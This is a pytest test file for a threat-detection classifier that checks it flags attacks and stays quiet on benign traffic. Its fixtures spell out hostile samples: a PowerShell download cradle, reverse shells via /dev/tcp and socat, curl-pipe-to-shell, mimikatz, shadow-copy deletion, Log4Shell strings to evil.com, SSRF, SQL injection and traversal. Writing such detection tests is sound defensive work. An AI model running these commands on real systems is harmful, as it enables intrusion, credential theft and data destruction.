"""Faults that people met with classifiers of this kind, and others of the same kinds, by the shipped bundle: each with its right value.

The letter is the kind of fault: A padding, B foreign strings, I labels without a score, K false alarms, L answers that cannot leave the
process.  Kinds of the sensor are in ``tests/sensor/test_cases.py``.
"""

from __future__ import annotations

import copy
import dataclasses
import json
import pickle

import pytest

from edge_demist import EdgeDemist

TRACKING = "utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024&gclid=Cj0KCQjw2a6wBhCVARIsABPeH1vQ0m7Yt3s8cKx9bFz4&"
TRACKING += "fbclid=IwAR1Zx7QkT9mVd3Lr5Yp8Wn2Cj6Hb4Gs0&_ga=2.143528172.1893712655.1711929600-502817364.1698765432&"
CRADLE = "powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"


@pytest.mark.parametrize("sets", [0, 1, 2, 8])
@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("/search?{}q=", "1'%20UNION%20SELECT%20login,password%20FROM%20users--%20-"),
        ("/index.php?{}ip=", "127.0.0.1;cat%20/etc/passwd"),
        ("/view?{}page=", "../../../../etc/passwd"),
        ("/comment?{}text=", "<script>alert(document.cookie)</script>"),
    ],
)
def test_a3_an_injection_behind_tracking_parameters(model: EdgeDemist, path: str, value: str, sets: int) -> None:
    answer = model.classify(path.format(TRACKING * sets) + value, task="uri-attack")[0]
    assert answer.alarm and answer.label != "normal"


@pytest.mark.parametrize(
    "comment", ["", " # обновление системы безопасности для всех пользователей", " # 系统安全更新", " # güvenlik güncellemesi"]
)
def test_b3_a_comment_in_any_language_hides_nothing(model: EdgeDemist, comment: str) -> None:
    answer = model.classify(CRADLE + comment, task="cmdline")[0]
    assert answer.alarm and answer.label == "malicious"


@pytest.mark.parametrize("task", ["dga", "hostname-threat", "hostname-category", "dns-tunnel", "url-phishing", "uri-attack", "cmdline"])
@pytest.mark.parametrize(
    "text",
    ["*" + "\0" * 14, "[2001:db8::1]:8080", "CKAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "\0\0\0\0", "����", "a" * 300, "x" * 64 + ".info", "[]"],
)
def test_i1_no_label_of_a_threat_with_a_score_of_nothing(model: EdgeDemist, task: str, text: str) -> None:
    answer = model.classify(text, task=task)[0]
    threats = {*model.specialist(task).positive_labels, "malware", "phishing"}
    assert answer.label not in threats or answer.score >= 0.2


@pytest.mark.parametrize("task", ["dga", "hostname-threat", "dns-tunnel"])
@pytest.mark.parametrize("text", ["a" * 300, "x" * 64 + ".info", "www." + "ab" * 40 + ".example"])
def test_what_no_name_can_be_is_no_threat(model: EdgeDemist, task: str, text: str) -> None:
    answer = model.classify(text, task=task)[0]
    assert not answer.alarm and answer.label == "unknown"


HARMLESS = [
    ("cmdline", r'"C:\WINDOWS\system32\cmd.exe" /d /c C:\WINDOWS\system32\hpatchmonTask.cmd'),
    ("cmdline", r"C:\WINDOWS\system32\UsoClient.exe StartScan"),
    ("cmdline", r'"C:\Program Files\CrowdStrike\CSFalconService.exe"'),
    ("cmdline", "notepad.exe notes.txt"),
    ("cmdline", r"C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p -s Dhcp"),
    ("cmdline", r'"C:\Program Files\SentinelOne\Sentinel Agent 23.4.2.216\SentinelServiceHost.exe"'),
    ("cmdline", r"C:\Windows\system32\rundll32.exe C:\Windows\system32\Startupscan.dll,SusRunTask"),
    ("cmdline", "/bin/sh -c [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi"),
    ("cmdline", "/usr/bin/python3 /usr/bin/networkd-dispatcher --run-startup-triggers"),
    ("cmdline", "/usr/bin/osqueryd --flagfile=/etc/osquery/osquery.flags"),
    ("uri-attack", '/rest/api/2/search?jql=project = ABC AND status in (Open, "In Progress") ORDER BY created DESC'),
    ("uri-attack", "/app/discover#/?_a=(query:(language:kuery,query:'response.status_code >= 500 and not host.name : \"web-1\"'))"),
    ("uri-attack", '/select?q=title:("war and peace" OR "anna karenina")~2&fq=year:[1900 TO 1950]&rows=10'),
    ("uri-attack", "/services/data/v58.0/query?q=SELECT+Id,Name+FROM+Account+LIMIT+10"),
    ("uri-attack", "/users?name=O'Brien"),
    ("uri-attack", "/wp-admin/admin-ajax.php?action=heartbeat"),
    ("uri-attack", "//cdn.example.com/x.js"),
    ("uri-attack", "a" * 300),
]
QUIET = [  # at one false alarm in a thousand
    ("url-phishing", "https://urldefense.proofpoint.com/v2/url?u=https-3A__example.com_news&d=DwMFaQ&c=abcdef&r=ghijkl"),
    (
        "url-phishing",
        "http://ocsp.apple.com/ocsp04-aaica02/ME4wTKADAgEAMEUwQzBBMAkGBSsOAwIaBQAEFNqvF+Za6oA4ceFRLsAWwEInjUhJBBQx6napI3Sl39T97qDBpp7GEQ4R7A=",
    ),
    ("url-phishing", "http://crt.usertrust.com/USERTrustRSAAddTrustCA.crt"),
    ("url-phishing", "https://www.smbc.co.jp/kojin/direct/index.html"),
    ("url-phishing", "https://internetbanking.caixa.gov.br/sinbc/#!nb/login"),
    ("hostname-threat", "devrubn8mli40.cloudfront.net"),
    ("hostname-threat", "d31qbv1cthcecs.cloudfront.net"),
    ("hostname-threat", "dr49lng3n1n2s.cloudfront.net"),
    ("dga", "ojvsgjidmixmfoc"),
    ("dga", "shlllgsbiijb"),
    ("dga", "7q3laqg6wohunnvj4jkor6kawqbqeaqbaeaq.a.e.e5.sk"),
    ("dns-tunnel", "7q3laqg6wohunnvj4jkor6kawqbqeaqbaeaq.a.e.e5.sk"),
    ("dga", "cbq.qa"),
    ("uri-attack", "/api/data?$filter=Name eq 'Milk' and Price lt 2.55"),
    *(
        ("uri-attack", text)
        for text in ("passwd", "this is a 'test' input", "/account/passwd", "/search?q=passwd", "/union/", "/wp-admin/")
    ),
]
COMPUTERS = ["DESKTOP-7Q2LK9V", "NPI8D2F61", "KMBT4F1C2A", "xkvbqtrwzjm", "qzwkjxvhpl", "srv-exch-01", "lhgfdsaqwe.", "fritz"]


@pytest.mark.parametrize("task", ["dga", "hostname-threat"])
@pytest.mark.parametrize("name", COMPUTERS)
def test_k9_a_single_label_is_nobodys_registered_name(model: EdgeDemist, name: str, task: str) -> None:
    answer = model.classify(name, task=task, fpr=1e-2)[0]
    assert not answer.alarm and answer.alarm_score == 0.0 and answer.label in ("legit", "unknown")


def test_k9_a_name_below_a_domain_is_one(model: EdgeDemist) -> None:
    answer = model.classify("xkvbqtrwzjmqpdhw.com", task="dga")[0]
    assert answer.alarm and answer.label == "dga"


@pytest.mark.parametrize("byte", [r"\xbe", r"\190"])
def test_an_escaped_byte_of_a_query_is_one_character(model: EdgeDemist, byte: str) -> None:
    inside, beyond = (f"{byte * count}.t.example.org" for count in (60, 64))
    assert model.classify(inside, task="dns-tunnel")[0].score > 0.0
    assert model.classify(beyond, task="dns-tunnel")[0].label == "unknown"


K15 = ["slscr.update.microsoft.com", "iphone-ld.apple.com", "us04web.zoom.us", "ctldl.windowsupdate.com"]


@pytest.mark.parametrize(("task", "text"), QUIET, ids=lambda value: value[:40])
def test_k1_to_k21_are_quiet_at_one_in_a_thousand(model: EdgeDemist, task: str, text: str) -> None:
    answer = model.classify(text, task=task, fpr=1e-3)[0]
    assert not answer.alarm and answer.label in ("legit", "normal", "unknown")


@pytest.mark.parametrize("odd", list("'@!%,;$ +=/:"))
def test_b_no_character_of_a_query_switches_a_tunnel_off(model: EdgeDemist, odd: str) -> None:
    name = "mfzwizltmrqxgzdgmfzwizltmrqxgzdgnbuw4zy.orsxg5dtnruxiztmnfzxi43pmrqxgzdg.t.evil.example"
    assert all(answer.alarm for answer in model.classify([name, name[:9] + odd + name[10:]], task="dns-tunnel"))


SEARCHES = [
    "this is a 'test' input",
    "passwd",
    '/rest/api/2/search?jql=project = ABC AND status in (Open, "In Progress") ORDER BY created DESC',
    "/services/search/jobs?search=search index=main sourcetype=access_combined status=404 | stats count by uri",
    "/v1/workspaces/query?query=SecurityEvent | where EventID == 4625 | summarize count() by Account",
    "/odata/Products?$filter=Price gt 20 and contains(Name,'chair')&$orderby=Name desc",
    '/api/v1/query?query=sum(rate(http_requests_total{job="api",code=~"5.."}[5m])) by (instance)',
    "/graphql?query={user(id:5){name,email}}",
    "/search?q=rock 'n' roll",
]


@pytest.mark.parametrize("text", SEARCHES, ids=lambda value: value[:40])
def test_k21_a_search_is_normal_by_its_label(model: EdgeDemist, text: str) -> None:
    assert model.classify(text, task="uri-attack")[0].label == "normal"


@pytest.mark.parametrize("text", ["Microsoft NCSI", "Mozilla/5.0"])
def test_k17_an_operating_system_is_no_attack_tool(model: EdgeDemist, text: str) -> None:
    assert model.classify(text, task="user-agent")[0].label != "attack-tool"


@pytest.mark.parametrize("name", K15)
def test_k15_a_category_at_an_asked_accuracy_is_no_threat(model: EdgeDemist, name: str) -> None:
    answer = model.classify(name, task="hostname-category", min_accuracy=0.94)[0]
    assert answer.label not in ("malware", "phishing")


def test_b1_random_segments_on_an_address_are_suspicious(model: EdgeDemist) -> None:
    one, six = (
        "203.0.113.45/9E4lXP65j9LF9Y7R/",
        "http://203.0.113.221:7080/pIXPXFus4dL9VHy/Ae4QuOOcWqMiS6t/PR8Ag6INSGfX0v/P4eGV/jBuvXE/J7W3n4va8quznD/",
    )
    assert [answer.label for answer in model.classify([one, six], task="url-phishing")] == ["malicious"] * 2


@pytest.mark.parametrize(("task", "text"), HARMLESS, ids=lambda value: value[:40])
def test_k_what_every_network_sees_raises_no_alarm(model: EdgeDemist, task: str, text: str) -> None:
    answer = model.classify(text, task=task)[0]
    assert not answer.alarm and answer.label in ("benign", "normal", "legit", "unknown")


ATTACKS = [
    ("cmdline", 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'),
    ("cmdline", CRADLE),
    ("cmdline", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
    ("cmdline", "curl http://1.2.3.4/x.sh | sh"),
    ("cmdline", "net user backdoor Passw0rd! /add"),
    ("cmdline", "certutil -urlcache -split -f http://10.0.0.5/a.exe a.exe"),
    ("cmdline", "vssadmin delete shadows /all /quiet"),
    ("cmdline", "wmic shadowcopy delete"),
    ("cmdline", r"bitsadmin /transfer job http://10.1.1.1/x.exe C:\temp\x.exe"),
    ("cmdline", 'mshta vbscript:Execute("msgbox ""Привет"":CreateObject(""WScript.Shell"").Run ""calc"":close")'),
    ("cmdline", "socat tcp-connect:10.0.0.1:4444 exec:sh,pty,stderr,setsid,sigint,sane"),
    ("uri-attack", "{{7*7}}"),
    ("uri-attack", "/hello/${7*7}"),
    ("uri-attack", "/a/<%= 7*7 %>"),
    ("uri-attack", ";id"),
    ("uri-attack", "/ping?host=8.8.8.8|whoami"),
    ("uri-attack", "/?x=${jndi:ldap://evil.com/a}"),
    ("uri-attack", "/?x=${${lower:j}ndi:${lower:l}dap://evil.com/a}"),
    ("uri-attack", "/x?class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"),
    ("uri-attack", "/fetch?url=http://169.254.169.254/latest/meta-data/"),
    ("uri-attack", "/r?url=//evil.com"),
]


@pytest.mark.parametrize(("task", "text"), ATTACKS, ids=lambda value: value[:40])
def test_what_everybody_tries_alarms(model: EdgeDemist, task: str, text: str) -> None:
    assert model.classify(text, task=task)[0].alarm


def test_l1_answers_leave_the_process(model: EdgeDemist) -> None:
    for text, task in (("a.com", "dga"), ("/s?" + "a=b&" * 200 + "q=<script>alert(1)</script>\udcff", "uri-attack")):
        answer = model.classify([text], task=task, top_k=2)[0]
        assert pickle.loads(pickle.dumps(answer)) == copy.deepcopy(answer) == answer
        assert len({answer, copy.copy(answer)}) == 1
        assert (
            json.loads(json.dumps(dataclasses.asdict(answer)))["label"] == json.loads(json.dumps(answer.to_dict()))["label"] == answer.label
        )


@pytest.mark.parametrize(
    "name", ["/hrdw3+bclzigr82daz6k2fzjetakq7gqdws0675.ql6mlsuonxvxtxyd", "p0s62oaxebnql190ff7w5r95bv8a0eb8jzmtz1n7", "_dmarc.a"]
)
def test_base64_and_single_labels_are_names_that_can_be_asked(model: EdgeDemist, name: str) -> None:
    assert model.classify(name, task="dns-tunnel")[0].score > 0.0
